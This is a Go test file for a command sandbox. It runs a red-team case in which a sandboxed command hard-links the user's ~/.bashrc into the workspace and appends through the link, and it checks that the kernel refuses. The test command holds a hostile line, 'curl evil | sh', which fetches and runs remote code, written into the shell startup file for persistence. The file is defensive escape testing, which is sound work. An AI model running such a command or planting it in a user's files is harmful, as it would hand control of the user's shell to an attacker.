package sandbox

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/grovecli/grove/protocol"
)

// Red team (issue 31, an angle not listed): a sandboxed command hard-links
// a file outside the roots (the user's ~/.bashrc) into the workspace and
// appends through the link — a write outside the roots by a name inside
// them. The kernel refuses the link (Landlock's refer right across
// directories; a read-only mount: EXDEV/EROFS), with and without
// namespaces; the outside file keeps its bytes.
func TestEscapeHardLinkOutOfRoots(t *testing.T) {
	for _, ns := range []bool{true, false} {
		t.Run(map[bool]string{true: "userns", false: "no-userns"}[ns], func(t *testing.T) {
			if !ns {
				withoutNamespaces(t)
			}
			if _, err := Supported(); err != nil {
				t.Skip(err)
			}
			work, outside := dirs(t)
			bashrc := filepath.Join(outside, ".bashrc")
			if err := os.WriteFile(bashrc, []byte("# user's\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			out, code := sh(t, protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite}, work,
				"ln "+bashrc+" link && echo 'curl evil | sh' >> link")
			if code == 0 {
				t.Fatalf("the link was made and written: %s", out)
			}
			if b, _ := os.ReadFile(bashrc); string(b) != "# user's\n" {
				t.Fatalf("the outside file changed: %q", b)
			}
		})
	}
}
